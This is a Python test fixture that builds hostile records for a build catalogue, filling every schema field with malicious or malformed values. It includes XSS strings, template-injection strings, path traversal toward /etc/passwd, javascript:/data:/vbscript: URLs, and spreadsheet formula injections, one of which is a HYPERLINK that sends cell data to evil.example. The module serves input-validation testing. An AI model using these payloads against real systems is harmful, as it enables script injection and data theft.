"""Records of somebody who wishes the catalogue ill, or has a bug."""

from typing import Any

from buildhub_schema import FIELDS

from tests.conftest import make_record

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg onload=alert(3)>"

TEXTS = {
    "script": SCRIPT,
    "template": "{{ 7 * 7 }}{% include 'x' %}${7*7}",
    "long": "long" * 2500,
    "long-words": "wide word " * 1000,
    "right-to-left": "\u202eexe.xofirif\u2066\u05d0\u05d1",
    "control": "a\x01\x07\x1b[31m\x7f\x85\u2028\ufffe\uffffb",
    "formula": '=HYPERLINK("http://evil.example/"&A1, "x")',
    "formula-plus": "+1+1",
    "formula-minus": "-1+1|cmd",
    "formula-at": "@SUM(1)",
    "formula-tab": "\t=1+1",
    "formula-return": "\r\n=1+1",
    "formula-space": "  =1+1",
    "formula-wide": "\uff1d1+1",
    "quotes": '"\',;\r\n"',
    "emoji": "👩‍👩‍👧‍👦 e\u0301\u0301\u0301\u0301",
    "path": "../../../etc/passwd?x=y#z%00%2f",
    "empty": "",
    "spaces": " \n\t ",
}
"""By what is wrong with them."""

URLS = (
    "javascript:alert(1)",
    " javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    'https://archive.mozilla.org/"><script>alert(1)</script>',
    "http://[not-an-address",
)
VALUES: tuple[Any, ...] = (None, True, -1, 1e308, 0.5, [], ["firefox", "<b>"], {}, {"a": {"b": 1}})
"""Of types that no schema allows."""


def hostile_records() -> list[dict[str, Any]]:
    """Return all of them."""
    return [*texts_in_every_field(), *hostile_firefoxes(), *hostile_urls(), *odd_records()]


def texts_in_every_field() -> list[dict[str, Any]]:
    """Return a record for each hostile text, with the text wherever a text may be."""
    return [_everywhere(f"text-{name}", text) for name, text in TEXTS.items()]


def hostile_firefoxes() -> list[dict[str, Any]]:
    """Return the same, and values of other types, in all fields but the product."""
    values = {**TEXTS, **{f"value-{number}": value for number, value in enumerate(VALUES)}}
    records = [_everywhere(f"firefox-{name}", value) for name, value in values.items()]
    for record in records:
        record["source"]["product"] = "firefox"
        # They are of releases, too, not only of a channel that nobody knows.
        if isinstance(record["target"]["channel"], str):
            record["target"]["channel"] = "release"
            record["target"]["locale"] = "en-US"
    return records


def hostile_urls() -> list[dict[str, Any]]:
    """Return a record for each address that must not be followed."""
    return [make_record(id=f"url-{number}", download__url=url) for number, url in enumerate(URLS)]


def odd_records() -> list[dict[str, Any]]:
    """Return records without parts that others have, and with values of other types."""
    return [
        *(_everywhere(f"value-{number}", value) for number, value in enumerate(VALUES)),
        make_record(id="no-build", build=None),
        make_record(id="no-download", download=None),
        make_record(id="no-source", source=None),
        make_record(id="no-target", target=None),
        make_record(id="an-unknown-product", source__product="netscape-navigator"),
        make_record(id="text-for-a-group", target="firefox", build="20170403083344"),
        make_record(id="odd-dates", download__date="yesterday", build__date="2017-13-45T99:99:99Z"),
        {"id": "nothing-at-all"},
    ]


def _everywhere(record_id: str, value: Any) -> dict[str, Any]:
    record: dict[str, Any] = {"id": record_id}
    for field in FIELDS:
        group, leaf = field.name.split(".")
        record.setdefault(group, {})[leaf] = value
    return record
